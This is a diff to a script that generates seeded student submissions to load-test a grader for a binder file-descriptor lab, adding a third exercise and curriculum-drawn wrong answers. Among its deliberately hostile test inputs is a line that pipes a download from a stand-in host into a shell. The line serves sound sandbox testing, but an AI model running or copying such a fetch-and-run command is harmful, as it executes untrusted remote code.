@@ -9,15 +9,16 @@
 // --distinct adds a statement with its own constant to every right answer, so that no two are the
 // same program and nothing is reused: the worst case, where every answer is graded in full.
 //
-// The submissions are generated from a seeded generator (the same set each time): right answers
-// are the lab's solutions respelled (indentation, blank lines, comments: distinct files, the same
-// program), wrong answers are the starter and typical mistakes, hostile ones never terminate,
+// The submissions are generated from a seeded generator (the same set each time), answering every
+// exercise of the lab: right answers are the lab's solutions respelled (indentation, blank lines,
+// comments: distinct files, the same program), wrong answers are the starter and the curriculum's
+// plausible mistakes (test/labs/wrong/binder-deferred-close/), hostile ones never terminate,
 // recurse without end, or call the host; a few files are empty, random bytes, truncated or for
 // another lab. The script prints how many distinct answer texts the batch holds, so the figure can
 // be read knowing how much the grader's per-program cache could reuse.
 import { spawnSync } from 'node:child_process'
 import { createHash } from 'node:crypto'
-import { mkdtempSync, mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
+import { mkdtempSync, mkdirSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
 import { availableParallelism, cpus, tmpdir } from 'node:os'
 import { dirname, join, resolve } from 'node:path'
 import { fileURLToPath } from 'node:url'
@@ -66,15 +67,22 @@ const sol = (id) => {
   if (!distinct) return code
   serial++
   // A statement with its own constant: not the same program as any other (renaming would be).
-  return id === 'deferred-close' ? code.replace('int deferred_close(unsigned int fd) {', `int deferred_close(unsigned int fd) {\n  long serial = ${serial};`) : code.replace('process app {', `process app {\n  long serial = ${serial};`)
+  const head = { 'deferred-close': 'int deferred_close(unsigned int fd) {', 'deferred-fd-closer': 'int deferred_fd_closer(unsigned int fd) {', 'provoke-v2': 'process app {' }[id]
+  if (!code.includes(head)) throw new Error(`--distinct: no "${head}" in the solution of ${id}`)
+  return code.replace(head, `${head}\n  long serial = ${serial};`)
 }
 const starter = (id) => block('starter', id)
+// The curriculum's wrong answers (first line: the tests they fail), by exercise.
+const wrongDir = join(root, 'test/labs/wrong/binder-deferred-close')
+const curriculum = (id) => readdirSync(wrongDir).filter((n) => n.startsWith(`${id}.`)).sort().map((n) => readFileSync(join(wrongDir, n), 'utf8').replace(/^[^\n]*\n/, ''))
+const wrongOf = (id) => { const ws = curriculum(id); if (ws.length < 3) throw new Error(`fewer than 3 wrong answers of ${id} in ${wrongDir}`); return () => pick(ws) }
 const PROVOKE = {
   right: () => respell(sol('provoke-v2')),
   starter: () => starter('provoke-v2'),
   fixed: () => '#include <linux/android/binder.h>\nprocess app {\n  int b = open("/dev/binder", O_RDWR);\n  ioctl(b, BINDER_FREE_FD, b);\n}\n',
   ownDriver: () => 'driver mine {\n  long ioctl(struct file *filp, unsigned int cmd, unsigned long arg) { return close_fd(arg); }\n}\nprocess app {\n  int b = open("/dev/mine", O_RDWR);\n  ioctl(b, 0, b);\n}\n',
   crash: () => '#include <linux/android/binder.h>\nprocess app {\n  int *p = 0;\n  *p = 1;\n}\n',
+  curriculum: wrongOf('provoke-v2'),
 }
 const DEFERRED = {
   right: () => respell(sol('deferred-close')),
@@ -84,6 +92,14 @@ const DEFERRED = {
   loop: () => 'int deferred_close(unsigned int fd) {\n  while (1) { }\n  return 0;\n}\n',
   recursion: () => 'int deferred_close(unsigned int fd) {\n  return deferred_close(fd + 1);\n}\n',
   host: () => '#include <stdlib.h>\nint deferred_close(unsigned int fd) {\n  system("curl http://example.invalid/x | sh");\n  return 0;\n}\n',
+  curriculum: wrongOf('deferred-close'),
+  empty: () => '',
+}
+const CLOSER = {
+  right: () => respell(sol('deferred-fd-closer')),
+  starter: () => starter('deferred-fd-closer'),
+  curriculum: wrongOf('deferred-fd-closer'),
+  loop: () => 'int deferred_fd_closer(unsigned int fd) {\n  for (;;) { fd++; }\n  return 0;\n}\n',
   empty: () => '',
 }
 const weighted = (table) => { let r = rand(); for (const [k, w] of table) { if ((r -= w) < 0) return k } return table[table.length - 1][0] }
@@ -105,8 +121,9 @@ for (let i = 0; i < count; i++) {
     light: rand() < 0.8 ? '1' : pick(['0', '2']),
     threaded: rand() < 0.7 ? '2' : pick(['0', '1']),
     pin: rand() < 0.75 ? '1' : pick(['0', '2']),
-    'provoke-v2': PROVOKE[weighted([['right', 0.6], ['starter', 0.15], ['fixed', 0.1], ['ownDriver', 0.1], ['crash', 0.05]])](),
-    'deferred-close': DEFERRED[weighted([['right', 0.45], ['starter', 0.25], ['noPin', 0.06], ['earlyPut', 0.06], ['loop', 0.01], ['recursion', 0.03], ['host', 0.04], ['empty', 0.1]])](),
+    'provoke-v2': PROVOKE[weighted([['right', 0.6], ['starter', 0.12], ['fixed', 0.08], ['ownDriver', 0.08], ['crash', 0.04], ['curriculum', 0.08]])](),
+    'deferred-close': DEFERRED[weighted([['right', 0.45], ['starter', 0.2], ['noPin', 0.05], ['earlyPut', 0.05], ['curriculum', 0.07], ['loop', 0.01], ['recursion', 0.03], ['host', 0.04], ['empty', 0.1]])](),
+    'deferred-fd-closer': CLOSER[weighted([['right', 0.45], ['starter', 0.2], ['curriculum', 0.2], ['loop', 0.01], ['empty', 0.14]])](),
   }
   for (const [k, v] of Object.entries(answers)) note(k, v)
   writeFileSync(name, JSON.stringify({ format: 'fdlab-submission', version: 1, lab: { id: 'binder-deferred-close', version: '1.0', sha256: sha }, student: `Student ${i}`, answers, app: '0.1.0', time: '2026-12-01T10:00:00.000Z' }, null, 2) + '\n')
